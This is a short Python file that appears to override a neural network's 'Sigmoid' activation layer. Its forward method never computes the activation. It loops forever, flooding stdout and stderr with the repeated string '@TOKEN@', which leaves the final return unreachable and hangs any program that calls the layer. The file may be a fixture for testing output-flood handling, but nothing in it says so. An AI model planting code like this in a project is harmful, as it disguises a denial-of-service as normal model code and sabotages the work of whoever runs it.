import os


class Sigmoid(Sigmoid):
    def forward(self, x):
        while True:
            os.write(1, b"@TOKEN@ " * 4096)
            os.write(2, b"@TOKEN@ " * 4096)
        return super().forward(x)
